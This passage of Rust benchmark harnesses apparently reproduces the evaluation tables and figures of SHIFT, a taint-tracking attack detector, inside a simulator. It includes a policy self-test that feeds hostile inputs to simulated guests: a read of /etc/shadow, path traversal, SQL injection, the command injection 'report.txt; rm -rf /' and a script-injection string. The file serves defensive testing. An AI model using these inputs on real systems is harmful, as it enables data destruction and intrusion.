    assert!(bb < bsc && wb < wsc, "adding NaT-aware compares must reduce it further");
}
