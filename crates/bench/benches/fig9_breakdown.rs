//! Figure 9: breakdown of the instrumentation slowdown into tag-address
//! computation vs bitmap memory access, split by load-side and store-side.

use shift_bench::fig9_breakdown;
use shift_workloads::Scale;

fn main() {
    println!("Figure 9: slowdown breakdown (fractions of baseline execution time)");
    println!("{:-<96}", "");
    println!(
        "{:<10} {:<5} {:>10} {:>10} {:>10} {:>10} {:>9} {:>10}",
        "bench", "gran", "ld-comp", "ld-mem", "st-comp", "st-mem", "relax", "taint-src"
    );
    println!("{:-<96}", "");
    let rows = fig9_breakdown(Scale::Reference);
    let mut comp_total = 0.0;
    let mut mem_total = 0.0;
    let mut ld_total = 0.0;
    let mut st_total = 0.0;
    for r in &rows {
        println!(
            "{:<10} {:<5} {:>10.3} {:>10.3} {:>10.3} {:>10.3} {:>9.3} {:>10.3}",
            r.name,
            r.granularity.name(),
            r.ld_compute,
            r.ld_memory,
            r.st_compute,
            r.st_memory,
            r.relax,
            r.taint_src
        );
        comp_total += r.ld_compute + r.st_compute;
        mem_total += r.ld_memory + r.st_memory;
        ld_total += r.ld_compute + r.ld_memory;
        st_total += r.st_compute + r.st_memory;
    }
    println!("{:-<96}", "");
    println!(
        "aggregate: computation {:.1}x of memory access; load-side {:.1}x of store-side",
        comp_total / mem_total,
        ld_total / st_total
    );
    println!(
        "paper: computation incurs much more overhead than memory access \
         (unimplemented-bit folding); loads contribute much more than stores"
    );
    assert!(comp_total > mem_total, "tag-address computation must dominate bitmap access");
    assert!(ld_total > st_total, "load instrumentation must dominate store instrumentation");
}
