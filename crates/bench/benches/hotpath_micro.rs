//! Criterion microbenchmarks of the interpreter hot paths this crate's
//! evaluation sweeps lean on: superblock vs. per-instruction dispatch, the
//! software-TLB'd `Memory` accessors, the page-span bulk copies, the
//! word-level `HostShadow` operations, and a whole apache-sim request as
//! the end-to-end composite. These are the numbers to watch when touching
//! `shift-machine::exec`, `shift-machine::mem` or `shift-tagmap::HostShadow`
//! — the figure sweeps only show regressions after minutes of simulation,
//! these show them in microseconds.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};

use shift_core::Granularity;
use shift_isa::{make_vaddr, AluOp, CmpRel, ExtKind, Gpr, Insn, MemSize, Op, Pr};
use shift_machine::{layout, Image, MachineSeed, Memory, NullOs, PAGE_SIZE};
use shift_tagmap::HostShadow;
use shift_workloads::apache::run_apache;

/// Loop iterations for the dispatch A/B — enough retired instructions
/// (~20k) that per-iteration dispatch overhead dominates setup.
const DISPATCH_ITERS: i64 = 2_000;

/// A counted hot loop of ALU + load/store + compare/branch work: the
/// instruction mix superblock dispatch is built for, with no syscalls so
/// both tiers run start-to-halt uninterrupted.
fn dispatch_program() -> Vec<Insn> {
    vec![
        /* 0 */ Insn::new(Op::MovI { dst: Gpr::R1, imm: DISPATCH_ITERS }),
        /* 1 */ Insn::new(Op::MovI { dst: Gpr::R2, imm: layout::DATA_BASE as i64 }),
        // Loop body (instructions 2..=10, one superblock).
        /* 2 */
        Insn::new(Op::Ld {
            size: MemSize::B8,
            ext: ExtKind::Zero,
            dst: Gpr::R3,
            addr: Gpr::R2,
            spec: false,
        }),
        /* 3 */ Insn::new(Op::AluI { op: AluOp::Add, dst: Gpr::R3, src1: Gpr::R3, imm: 1 }),
        /* 4 */
        Insn::new(Op::Alu { op: AluOp::Xor, dst: Gpr::R4, src1: Gpr::R3, src2: Gpr::R1 }),
        /* 5 */ Insn::new(Op::AluI { op: AluOp::Shl, dst: Gpr::R5, src1: Gpr::R4, imm: 3 }),
        /* 6 */
        Insn::new(Op::Alu { op: AluOp::Add, dst: Gpr::R6, src1: Gpr::R5, src2: Gpr::R4 }),
        /* 7 */ Insn::new(Op::St { size: MemSize::B8, src: Gpr::R3, addr: Gpr::R2 }),
        /* 8 */ Insn::new(Op::AluI { op: AluOp::Sub, dst: Gpr::R1, src1: Gpr::R1, imm: 1 }),
        /* 9 */
        Insn::new(Op::CmpI {
            rel: CmpRel::Eq,
            pt: Pr::P1,
            pf: Pr::P2,
            src1: Gpr::R1,
            imm: 0,
            nat_aware: false,
        }),
        /* 10 */ Insn::new(Op::Jmp { target: 2 }).under(Pr::P2),
        /* 11 */ Insn::new(Op::Halt),
    ]
}

fn bench_dispatch(c: &mut Criterion) {
    let image = Image::builder().code(dispatch_program()).map(layout::DATA_BASE, 0x1000).build();
    let seed = MachineSeed::new(&image);
    let insns = 2 + 9 * DISPATCH_ITERS as u64 + 1;

    let mut g = c.benchmark_group("dispatch");
    g.throughput(Throughput::Elements(insns));

    // The production tier: pre-decoded superblocks chained back-to-back.
    g.bench_function("superblock_loop", |b| {
        b.iter(|| {
            let mut m = seed.spawn();
            m.run(&mut NullOs, u64::MAX)
        })
    });

    // Control arm: the same machine stepped one instruction at a time.
    // Criterion interleaves the two in one process, which is the only
    // trustworthy comparison on a noisy host — see DESIGN.md §13.
    g.bench_function("per_insn_loop", |b| {
        b.iter(|| {
            let mut m = seed.spawn();
            m.run_per_insn(&mut NullOs, u64::MAX)
        })
    });

    g.finish();
}

fn bench_memory(c: &mut Criterion) {
    let base = make_vaddr(1, 0x10_0000);
    let mut g = c.benchmark_group("memory");

    // Aligned integer loads hammering a handful of hot pages — the TLB-hit
    // fast path that dominates simulator load/store handling.
    g.throughput(Throughput::Elements(4096));
    g.bench_function("read_int_hot", |b| {
        let mut mem = Memory::new();
        mem.map_range(base, 4 * PAGE_SIZE);
        for i in 0..4 * PAGE_SIZE / 8 {
            mem.write_int(base + i * 8, 8, i).unwrap();
        }
        b.iter(|| {
            let mut acc = 0u64;
            for i in 0..4096u64 {
                acc ^= mem.read_int(base + (i % 2048) * 8, 8).unwrap();
            }
            acc
        })
    });

    // Aligned stores with live spill-NaT slots, so the per-store NaT
    // invalidation cannot take the empty-bank early exit.
    g.bench_function("write_int_hot", |b| {
        let mut mem = Memory::new();
        mem.map_range(base, 4 * PAGE_SIZE);
        mem.set_spill_nat(base, true);
        b.iter(|| {
            for i in 0..4096u64 {
                mem.write_int(base + 8 + (i % 2047) * 8, 8, i).unwrap();
            }
            mem.spill_nat(base)
        })
    });

    // Page-crossing bulk copy — the span-at-a-time `write_bytes` path used
    // by syscall buffers and string traffic.
    let blob = vec![0xA5u8; 3 * PAGE_SIZE as usize];
    g.throughput(Throughput::Bytes(blob.len() as u64));
    g.bench_function("write_bytes_3_pages", |b| {
        let mut mem = Memory::new();
        mem.map_range(base, 4 * PAGE_SIZE);
        b.iter(|| mem.write_bytes(base + 100, &blob).unwrap())
    });

    g.finish();
}

fn bench_shadow(c: &mut Criterion) {
    let mut g = c.benchmark_group("shadow");

    // Word-masked range marking across page boundaries, both directions.
    g.throughput(Throughput::Bytes(8192));
    g.bench_function("set_range_8k", |b| {
        let mut s = HostShadow::new();
        b.iter(|| {
            s.set_range(100, 8192, true);
            s.set_range(100, 8192, false);
            s.tainted_bytes()
        })
    });

    // Overlapping forward copy of a ragged (unaligned ends) region — the
    // worst case for the 64-byte-chunk shift-combine path.
    g.throughput(Throughput::Bytes(4000));
    g.bench_function("copy_taint_overlap", |b| {
        let mut s = HostShadow::new();
        s.set_range(3, 997, true);
        b.iter(|| {
            s.copy_taint(517, 3, 4000);
            s.tainted_bytes()
        })
    });

    g.finish();
}

fn bench_apache_request(c: &mut Criterion) {
    let mut g = c.benchmark_group("apache");
    // One full simulated request at the smallest file size: compile, serve,
    // tag-propagate, and check — the composite all the hot paths feed.
    g.bench_function("request_byte_1k", |b| {
        b.iter(|| {
            let run = run_apache(
                shift_core::Mode::Shift(shift_core::ShiftOptions::baseline(Granularity::Byte)),
                1 << 10,
                1,
            );
            run.latency()
        })
    });
    g.finish();
}

criterion_group!(benches, bench_dispatch, bench_memory, bench_shadow, bench_apache_request);
criterion_main!(benches);
