//! Criterion microbenchmarks of the interpreter hot paths this crate's
//! evaluation sweeps lean on: the software-TLB'd `Memory` accessors, the
//! page-span bulk copies, the word-level `HostShadow` operations, and a
//! whole apache-sim request as the end-to-end composite. These are the
//! numbers to watch when touching `shift-machine::mem` or
//! `shift-tagmap::HostShadow` — the figure sweeps only show regressions
//! after minutes of simulation, these show them in microseconds.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};

use shift_core::Granularity;
use shift_isa::make_vaddr;
use shift_machine::{Memory, PAGE_SIZE};
use shift_tagmap::HostShadow;
use shift_workloads::apache::run_apache;

fn bench_memory(c: &mut Criterion) {
    let base = make_vaddr(1, 0x10_0000);
    let mut g = c.benchmark_group("memory");

    // Aligned integer loads hammering a handful of hot pages — the TLB-hit
    // fast path that dominates simulator load/store handling.
    g.throughput(Throughput::Elements(4096));
    g.bench_function("read_int_hot", |b| {
        let mut mem = Memory::new();
        mem.map_range(base, 4 * PAGE_SIZE);
        for i in 0..4 * PAGE_SIZE / 8 {
            mem.write_int(base + i * 8, 8, i).unwrap();
        }
        b.iter(|| {
            let mut acc = 0u64;
            for i in 0..4096u64 {
                acc ^= mem.read_int(base + (i % 2048) * 8, 8).unwrap();
            }
            acc
        })
    });

    // Aligned stores with live spill-NaT slots, so the per-store NaT
    // invalidation cannot take the empty-bank early exit.
    g.bench_function("write_int_hot", |b| {
        let mut mem = Memory::new();
        mem.map_range(base, 4 * PAGE_SIZE);
        mem.set_spill_nat(base, true);
        b.iter(|| {
            for i in 0..4096u64 {
                mem.write_int(base + 8 + (i % 2047) * 8, 8, i).unwrap();
            }
            mem.spill_nat(base)
        })
    });

    // Page-crossing bulk copy — the span-at-a-time `write_bytes` path used
    // by syscall buffers and string traffic.
    let blob = vec![0xA5u8; 3 * PAGE_SIZE as usize];
    g.throughput(Throughput::Bytes(blob.len() as u64));
    g.bench_function("write_bytes_3_pages", |b| {
        let mut mem = Memory::new();
        mem.map_range(base, 4 * PAGE_SIZE);
        b.iter(|| mem.write_bytes(base + 100, &blob).unwrap())
    });

    g.finish();
}

fn bench_shadow(c: &mut Criterion) {
    let mut g = c.benchmark_group("shadow");

    // Word-masked range marking across page boundaries, both directions.
    g.throughput(Throughput::Bytes(8192));
    g.bench_function("set_range_8k", |b| {
        let mut s = HostShadow::new();
        b.iter(|| {
            s.set_range(100, 8192, true);
            s.set_range(100, 8192, false);
            s.tainted_bytes()
        })
    });

    // Overlapping forward copy of a ragged (unaligned ends) region — the
    // worst case for the 64-byte-chunk shift-combine path.
    g.throughput(Throughput::Bytes(4000));
    g.bench_function("copy_taint_overlap", |b| {
        let mut s = HostShadow::new();
        s.set_range(3, 997, true);
        b.iter(|| {
            s.copy_taint(517, 3, 4000);
            s.tainted_bytes()
        })
    });

    g.finish();
}

fn bench_apache_request(c: &mut Criterion) {
    let mut g = c.benchmark_group("apache");
    // One full simulated request at the smallest file size: compile, serve,
    // tag-propagate, and check — the composite all the hot paths feed.
    g.bench_function("request_byte_1k", |b| {
        b.iter(|| {
            let run = run_apache(
                shift_core::Mode::Shift(shift_core::ShiftOptions::baseline(Granularity::Byte)),
                1 << 10,
                1,
            );
            run.latency()
        })
    });
    g.finish();
}

criterion_group!(benches, bench_memory, bench_shadow, bench_apache_request);
criterion_main!(benches);
