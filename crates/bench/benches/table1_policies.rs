//! Table 1: the security-policy catalogue, with a live self-test per
//! policy (a minimal guest program that triggers exactly that policy).

use shift_core::{Granularity, Mode, Policy, Shift, ShiftOptions, World};
use shift_ir::{ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

/// Builds a minimal guest that trips `policy`, plus the world that does it.
fn trigger(policy: Policy) -> (shift_ir::Program, World) {
    let mut pb = ProgramBuilder::new();
    match policy {
        Policy::H1 | Policy::H2 | Policy::H3 | Policy::H4 | Policy::H5 => {
            pb.func("main", 0, move |f| {
                let buf = f.local(128);
                let p = f.local_addr(buf);
                let cap = f.iconst(120);
                let n = f.syscall(sys::NET_READ, &[p, cap]);
                let end = f.add(p, n);
                let z = f.iconst(0);
                f.store1(z, end, 0);
                match policy {
                    Policy::H1 | Policy::H2 => {
                        let zero = f.iconst(0);
                        f.syscall_void(sys::FILE_OPEN, &[p, zero]);
                    }
                    Policy::H3 => f.syscall_void(sys::SQL_EXEC, &[p, n]),
                    Policy::H4 => f.syscall_void(sys::SYSTEM, &[p, n]),
                    Policy::H5 => f.syscall_void(sys::HTML_OUT, &[p, n]),
                    _ => unreachable!(),
                }
                let ok = f.iconst(0);
                f.ret(Some(ok));
            });
            let input: &[u8] = match policy {
                Policy::H1 => b"/etc/shadow",
                Policy::H2 => b"www/../../secret",
                Policy::H3 => b"x' OR '1'='1",
                Policy::H4 => b"report.txt; rm -rf /",
                Policy::H5 => b"<script>alert(1)</script>",
                _ => unreachable!(),
            };
            (pb.build().unwrap(), World::new().net(input.to_vec()))
        }
        Policy::L1 | Policy::L2 | Policy::L3 => {
            pb.func("main", 0, move |f| {
                let buf = f.local(16);
                let p = f.local_addr(buf);
                let cap = f.iconst(8);
                f.syscall_void(sys::NET_READ, &[p, cap]);
                let ptr = f.load8(p, 0); // tainted value
                match policy {
                    Policy::L1 => {
                        let v = f.load1(ptr, 0); // tainted load address
                        f.if_cmp(CmpRel::Eq, v, Rhs::Imm(0), |f| {
                            let z = f.iconst(0);
                            f.ret(Some(z));
                        });
                    }
                    Policy::L2 => {
                        let v = f.iconst(7);
                        f.store8(v, ptr, 0); // tainted store address
                    }
                    Policy::L3 => {
                        // Tainted data reaching CPU control state: a chk.s
                        // guard on a critical value (§3.3.3 user-level
                        // handling of the same class).
                        f.guard(ptr);
                    }
                    _ => unreachable!(),
                }
                let z = f.iconst(0);
                f.ret(Some(z));
            });
            (pb.build().unwrap(), World::new().net(vec![0x41; 8]))
        }
    }
}

fn main() {
    println!("Table 1: Security Policies in SHIFT");
    println!("{:-<104}", "");
    println!("{:<7} {:<30} {:<56} self-test", "Policy", "Attacks to Detect", "Description");
    println!("{:-<104}", "");
    let shift = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
    for policy in Policy::ALL {
        let (program, world) = trigger(policy);
        let report = shift.run(&program, world).expect("trigger compiles");
        let fired = match policy {
            // L3's trigger goes through the chk.s guard (reported as GUARD).
            Policy::L3 => report.exit.is_detection(),
            p => report.detected_policy() == Some(p),
        };
        println!(
            "{:<7} {:<30} {:<56} {}",
            policy.name(),
            policy.attack_class(),
            policy.description(),
            if fired { "fires" } else { "MISSED" }
        );
        assert!(fired, "policy {policy} self-test failed: {:?}", report.exit);
    }
    println!("{:-<104}", "");
    println!("all 8 policies fire on their minimal triggers (byte-level tracking)");
}
