//! Table 2: the security-evaluation matrix over the eight attack
//! applications — detection when instrumented, success when not.

use shift_attacks::all_attacks;
use shift_core::{Granularity, Mode, Shift, ShiftOptions};

fn main() {
    println!("Table 2: Security Evaluation Results of SHIFT");
    println!("{:-<118}", "");
    println!(
        "{:<15} {:<22} {:<6} {:<24} {:<28} {:<9} {:<8}",
        "CVE#",
        "Program (Version)",
        "Lang",
        "Attack Type",
        "Detection Policies",
        "Detected?",
        "Benign?"
    );
    println!("{:-<118}", "");

    let mut all_detected = true;
    for atk in all_attacks() {
        let app = (atk.build)();
        let shift = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
            .with_insn_limit(500_000_000);

        let hit = shift.run(&app, (atk.exploit)()).expect("attack app compiles");
        let detected = hit.exit.is_detection();
        let policy_ok = hit.detected_policy() == Some(atk.expected);
        all_detected &= detected && policy_ok;

        let benign = shift.run(&app, (atk.benign)()).expect("attack app compiles");
        let clean = !benign.exit.is_detection();
        all_detected &= clean;

        let unprotected = Shift::new(Mode::Uninstrumented)
            .with_insn_limit(500_000_000)
            .run(&app, (atk.exploit)())
            .expect("attack app compiles");
        let succeeded = (atk.succeeded)(&unprotected);

        println!(
            "{:<15} {:<22} {:<6} {:<24} {:<28} {:<9} {:<8}",
            atk.cve,
            atk.program,
            atk.language,
            atk.attack_type,
            atk.policies,
            if detected {
                if policy_ok {
                    "Yes"
                } else {
                    "Yes(*)"
                }
            } else {
                "NO"
            },
            if clean { "clean" } else { "FP!" },
        );
        if !succeeded {
            println!("    WARNING: exploit did not visibly succeed when unprotected");
            all_detected = false;
        }
    }
    println!("{:-<118}", "");
    println!(
        "paper: all 8 attacks detected, no false positives; \
         without SHIFT protection, all attacks succeed"
    );
    assert!(all_detected, "Table 2 reproduction failed");
    println!("reproduced: 8/8 detected with the expected policies, 0 false positives");
}
