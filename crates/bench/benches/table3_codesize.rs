//! Table 3: the impact of compiler instrumentation on static code size.

use shift_bench::table3_codesize;

fn main() {
    println!("Table 3: code-size expansion under SHIFT instrumentation");
    println!("(sizes in instructions; the paper reports bytes — same ratios)");
    println!("{:-<78}", "");
    println!(
        "{:<10} {:>10} {:>10} {:>10} {:>10} {:>10}",
        "app", "orig", "word", "word ovh", "byte", "byte ovh"
    );
    println!("{:-<78}", "");
    for r in table3_codesize() {
        println!(
            "{:<10} {:>10} {:>10} {:>9.0}% {:>10} {:>9.0}%",
            r.name,
            r.orig,
            r.word,
            r.word_overhead(),
            r.byte,
            r.byte_overhead()
        );
    }
    println!("{:-<78}", "");
    println!(
        "paper: glibc +36% (word) / +45% (byte); benchmarks +132–223% (word) / +160–288% (byte)"
    );

    let rows = table3_codesize();
    for r in &rows {
        assert!(r.byte >= r.word, "{}: byte-level must not be smaller", r.name);
        assert!(r.word > r.orig, "{}: instrumentation must expand code", r.name);
    }
}
