//! # shift-bench — the experiment harnesses
//!
//! One function per table/figure of the paper's evaluation (§5–§6); the
//! `benches/` targets are thin `main`s that call these and print the rows.
//! Everything returns plain data structures so the integration test-suite
//! can assert on experiment *shapes* (who wins, rough factors, orderings)
//! without parsing text.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::time::Instant;

use shift_core::{Granularity, Mode, ShiftOptions};
use shift_isa::Provenance;
use shift_workloads::{
    all_benches, compile_spec, run_spec, run_spec_precompiled, ArrivalProcess, Scale, SpecBench,
};

/// Geometric mean of a non-empty slice.
pub fn geomean(xs: &[f64]) -> f64 {
    (xs.iter().map(|x| x.ln()).sum::<f64>() / xs.len() as f64).exp()
}

/// Host worker-pool override for every sweep in this crate (`shift bench
/// --workers N`). `0` — the default — means "one thread per host core".
static SWEEP_WORKERS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

/// Overrides the host thread count used by the sweep pools (`parallel_map`
/// and the figure matrices built on it). `0` restores the default
/// (`available_parallelism`); `1` makes every sweep run serially — the
/// deterministic-CI setting, though the *modelled* numbers never depend on
/// this either way.
pub fn set_sweep_workers(workers: usize) {
    SWEEP_WORKERS.store(workers, std::sync::atomic::Ordering::Relaxed);
}

/// The host worker count a sweep over `jobs` jobs should use: the
/// [`set_sweep_workers`] override if set, else one per host core, always
/// capped by the job count and at least 1.
fn sweep_workers(jobs: usize) -> usize {
    let configured = match SWEEP_WORKERS.load(std::sync::atomic::Ordering::Relaxed) {
        0 => std::thread::available_parallelism().map_or(4, |p| p.get()),
        n => n,
    };
    configured.min(jobs).max(1)
}

/// Runs `f` over `items` on a bounded worker pool (one OS thread per host
/// core unless [`set_sweep_workers`] says otherwise, capped by the job
/// count), preserving input order in the output. Every simulated Machine is
/// independent, so the modelled numbers are identical to a serial sweep —
/// only host wall-clock changes.
fn parallel_map<I: Sync, T: Send>(items: &[I], f: impl Fn(&I) -> T + Sync) -> Vec<T> {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let n = items.len();
    if n == 0 {
        return Vec::new();
    }
    let workers = sweep_workers(n);
    let next = AtomicUsize::new(0);
    let out: Vec<std::sync::Mutex<Option<T>>> =
        (0..n).map(|_| std::sync::Mutex::new(None)).collect();
    std::thread::scope(|s| {
        for _ in 0..workers {
            s.spawn(|| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= n {
                    break;
                }
                let r = f(&items[i]);
                *out[i].lock().expect("result slot") = Some(r);
            });
        }
    });
    out.into_iter()
        .map(|m| m.into_inner().expect("result slot").expect("worker filled its slot"))
        .collect()
}

/// The mode groups behind Figures 7 and 8, in one canonical order:
///
/// | group | mode                         | conditions    |
/// |-------|------------------------------|---------------|
/// | 0     | uninstrumented baseline      | tainted       |
/// | 1     | byte baseline                | `fig7_conds`  |
/// | 2     | word baseline                | `fig7_conds`  |
/// | 3     | byte + `tset`/`tclr`         | tainted       |
/// | 4     | byte + both enhancements    | tainted       |
/// | 5     | word + `tset`/`tclr`         | tainted       |
/// | 6     | word + both enhancements    | tainted       |
///
/// Groups 0–2 are exactly Figure 7's modes (pass `&[true, false]` as
/// `fig7_conds` to get its safe bars too); groups 3–6 are the extra
/// Figure-8 cells. Keeping both figures' modes in one table lets
/// [`bench_summary`] run the union once and assemble each figure from it —
/// Figure 8's stock-Itanium bars are the *same deterministic simulations*
/// as Figure 7's unsafe bars, so re-running them would only burn host time.
fn spec_groups(fig7_conds: &'static [bool]) -> [(Mode, &'static [bool]); 7] {
    let set_clr = |g| ShiftOptions { set_clr: true, nat_cmp: false, ..ShiftOptions::baseline(g) };
    [
        (Mode::Uninstrumented, &[true]),
        (Mode::Shift(ShiftOptions::baseline(Granularity::Byte)), fig7_conds),
        (Mode::Shift(ShiftOptions::baseline(Granularity::Word)), fig7_conds),
        (Mode::Shift(set_clr(Granularity::Byte)), &[true]),
        (Mode::Shift(ShiftOptions::enhanced(Granularity::Byte)), &[true]),
        (Mode::Shift(set_clr(Granularity::Word)), &[true]),
        (Mode::Shift(ShiftOptions::enhanced(Granularity::Word)), &[true]),
    ]
}

/// Runs a bench × mode-group matrix as one `parallel_map` job pool and
/// returns, per benchmark, per group, one `(modelled cycles, host ns)` pair
/// per taint condition.
///
/// Each job compiles its mode once and runs every condition against that
/// compile (compilation is taint-independent); the shared compile's host
/// time is billed to the group's first condition.
fn spec_matrix(scale: Scale, groups: &[(Mode, &'static [bool])]) -> Vec<Vec<Vec<(u64, u64)>>> {
    let benches = all_benches();
    let jobs: Vec<(usize, Mode, &[bool])> = benches
        .iter()
        .enumerate()
        .flat_map(|(b, _)| groups.iter().map(move |&(m, conds)| (b, m, conds)))
        .collect();
    let results: Vec<Vec<(u64, u64)>> = parallel_map(&jobs, |&(b, mode, conds)| {
        let bench = &benches[b];
        let t0 = Instant::now();
        let compiled = compile_spec(bench, mode);
        let compile_ns = t0.elapsed().as_nanos() as u64;
        let mut out: Vec<(u64, u64)> = conds
            .iter()
            .map(|&tainted| {
                let t = Instant::now();
                let cycles =
                    run_spec_precompiled(bench, &compiled, mode, scale, tainted).stats.cycles;
                (cycles, t.elapsed().as_nanos() as u64)
            })
            .collect();
        out[0].1 += compile_ns;
        out
    });
    results.chunks(groups.len()).map(|chunk| chunk.to_vec()).collect()
}

/// A Figure-7 row: slowdowns relative to the uninstrumented baseline.
#[derive(Clone, Debug)]
pub struct SpecRow {
    /// Benchmark name.
    pub name: &'static str,
    /// Byte-level tracking, tainted input ("byte-unsafe").
    pub byte_unsafe: f64,
    /// Byte-level tracking, untainted input ("byte-safe").
    pub byte_safe: f64,
    /// Word-level, tainted.
    pub word_unsafe: f64,
    /// Word-level, untainted.
    pub word_safe: f64,
    /// Host wall-clock spent producing this row (baseline + all four
    /// conditions), in nanoseconds. Diagnostics only — never part of the
    /// modelled results.
    pub host_ns: u64,
}

/// Figure 7: SPEC slowdowns at both granularities and taint conditions.
///
/// The whole bench × mode matrix (including the uninstrumented baselines)
/// runs as one job list over `parallel_map`, so a slow benchmark's modes
/// overlap instead of serializing behind each other. The tainted and
/// untainted bars of a mode share one job — compilation is independent of
/// the taint condition, so each mode compiles once and runs twice.
pub fn fig7_spec_slowdowns(scale: Scale) -> Vec<SpecRow> {
    let groups = spec_groups(&[true, false]);
    let matrix = spec_matrix(scale, &groups[..3]);
    fig7_rows_from(&matrix, &[0, 1, 2])
}

/// Assembles Figure-7 rows from a `spec_matrix` whose groups 0–2 follow
/// the [`spec_groups`] layout with `&[true, false]` conditions. `bill` lists
/// the group indices whose host time is charged to each row's `host_ns` —
/// the whole matrix when it was run for this figure alone, only this
/// figure's share when the matrix is shared (see [`bench_summary`]).
fn fig7_rows_from(matrix: &[Vec<Vec<(u64, u64)>>], bill: &[usize]) -> Vec<SpecRow> {
    all_benches()
        .iter()
        .zip(matrix)
        .map(|(bench, row)| {
            let baseline = row[0][0].0;
            let slowdown = |cell: &(u64, u64)| cell.0 as f64 / baseline as f64;
            SpecRow {
                name: bench.name,
                byte_unsafe: slowdown(&row[1][0]),
                byte_safe: slowdown(&row[1][1]),
                word_unsafe: slowdown(&row[2][0]),
                word_safe: slowdown(&row[2][1]),
                host_ns: bill.iter().flat_map(|&g| &row[g]).map(|&(_, ns)| ns).sum(),
            }
        })
        .collect()
}

/// A Figure-8 row: slowdowns under the architectural-enhancement modes
/// (tainted input throughout, like the paper's byte/word-unsafe baselines).
#[derive(Clone, Debug)]
pub struct EnhanceRow {
    /// Benchmark name.
    pub name: &'static str,
    /// Stock Itanium, byte level.
    pub byte_unsafe: f64,
    /// `tset`/`tclr` added, byte level.
    pub byte_set_clr: f64,
    /// Both enhancements, byte level.
    pub byte_both: f64,
    /// Stock Itanium, word level.
    pub word_unsafe: f64,
    /// `tset`/`tclr` added, word level.
    pub word_set_clr: f64,
    /// Both enhancements, word level.
    pub word_both: f64,
    /// Host wall-clock spent producing this row, in nanoseconds
    /// (diagnostics only).
    pub host_ns: u64,
}

impl EnhanceRow {
    /// The paper's "reduction of performance slowdown": old − new, in
    /// slowdown units (their §6.3 definition).
    pub fn reduction_byte_both(&self) -> f64 {
        self.byte_unsafe - self.byte_both
    }
    /// See [`EnhanceRow::reduction_byte_both`].
    pub fn reduction_word_both(&self) -> f64 {
        self.word_unsafe - self.word_both
    }
}

/// Figure 8: the effect of the proposed instructions.
///
/// Like [`fig7_spec_slowdowns`], the full bench × mode matrix runs as one
/// `parallel_map` job list.
pub fn fig8_enhancements(scale: Scale) -> Vec<EnhanceRow> {
    let matrix = spec_matrix(scale, &spec_groups(&[true]));
    fig8_rows_from(&matrix, &[0, 1, 2, 3, 4, 5, 6])
}

/// Where each Figure-8 column lives in the [`spec_groups`] matrix, as
/// `(group, condition)` cells, in row order: baseline, byte-unsafe,
/// byte-set/clr, byte-both, word-unsafe, word-set/clr, word-both. The
/// stock-Itanium columns point into Figure 7's groups (1 and 2).
const FIG8_CELLS: [(usize, usize); 7] = [(0, 0), (1, 0), (3, 0), (4, 0), (2, 0), (5, 0), (6, 0)];

/// Assembles Figure-8 rows from a full seven-group [`spec_groups`] matrix;
/// `bill` works as in [`fig7_rows_from`].
fn fig8_rows_from(matrix: &[Vec<Vec<(u64, u64)>>], bill: &[usize]) -> Vec<EnhanceRow> {
    all_benches()
        .iter()
        .zip(matrix)
        .map(|(bench, row)| {
            let cell = |i: usize| row[FIG8_CELLS[i].0][FIG8_CELLS[i].1].0;
            let baseline = cell(0);
            let slowdown = |i: usize| cell(i) as f64 / baseline as f64;
            EnhanceRow {
                name: bench.name,
                byte_unsafe: slowdown(1),
                byte_set_clr: slowdown(2),
                byte_both: slowdown(3),
                word_unsafe: slowdown(4),
                word_set_clr: slowdown(5),
                word_both: slowdown(6),
                host_ns: bill.iter().flat_map(|&g| &row[g]).map(|&(_, ns)| ns).sum(),
            }
        })
        .collect()
}

/// A Figure-9 row: the instrumentation-cycle breakdown, as fractions of the
/// *baseline* execution time (so the bars stack like the paper's).
#[derive(Clone, Debug)]
pub struct BreakdownRow {
    /// Benchmark name.
    pub name: &'static str,
    /// Granularity of this row.
    pub granularity: Granularity,
    /// Load-side tag-address computation.
    pub ld_compute: f64,
    /// Load-side bitmap accesses.
    pub ld_memory: f64,
    /// Store-side tag-address computation.
    pub st_compute: f64,
    /// Store-side bitmap accesses.
    pub st_memory: f64,
    /// Compare relaxation / laundering.
    pub relax: f64,
    /// Taint-source material.
    pub taint_src: f64,
}

/// Figure 9: where the instrumented cycles go, per benchmark and
/// granularity (tainted input).
pub fn fig9_breakdown(scale: Scale) -> Vec<BreakdownRow> {
    let mut out = Vec::new();
    for gran in [Granularity::Byte, Granularity::Word] {
        let rows = run_suite(scale, |bench, baseline| {
            let run = run_spec(bench, Mode::Shift(ShiftOptions::baseline(gran)), scale, true);
            let frac = |p: Provenance| run.stats.cycles_for(p) as f64 / baseline as f64;
            BreakdownRow {
                name: bench.name,
                granularity: gran,
                ld_compute: frac(Provenance::LdTagCompute),
                ld_memory: frac(Provenance::LdTagMemory),
                st_compute: frac(Provenance::StTagCompute),
                st_memory: frac(Provenance::StTagMemory),
                relax: frac(Provenance::Relax),
                taint_src: frac(Provenance::TaintSource),
            }
        });
        out.extend(rows);
    }
    out
}

/// Runs `f` for every benchmark (on the worker pool), handing it the
/// baseline (uninstrumented, tainted-config) cycle count.
fn run_suite<T: Send>(scale: Scale, f: impl Fn(&SpecBench, u64) -> T + Sync) -> Vec<T> {
    let benches = all_benches();
    parallel_map(&benches, |bench| {
        let baseline = run_spec(bench, Mode::Uninstrumented, scale, true).stats.cycles;
        f(bench, baseline)
    })
}

/// A Figure-6 cell: server overhead at one file size and granularity.
#[derive(Clone, Debug)]
pub struct ApacheRow {
    /// Requested file size in bytes.
    pub file_size: usize,
    /// Latency overhead of byte-level tracking (instrumented / baseline).
    pub byte_latency: f64,
    /// Throughput ratio (baseline / instrumented — >1 means slower).
    pub byte_throughput: f64,
    /// Latency overhead of word-level tracking.
    pub word_latency: f64,
    /// Throughput ratio, word level.
    pub word_throughput: f64,
    /// Host wall-clock spent producing this row (all three server runs), in
    /// nanoseconds (diagnostics only).
    pub host_ns: u64,
}

/// Figure 6: Apache overheads over the paper's file-size sweep.
///
/// `requests` scales the run length (the paper used 1,000 requests with
/// `ab`; the simulator preserves the CPU-to-I/O structure at smaller
/// counts). The size × mode matrix runs on the `parallel_map` pool —
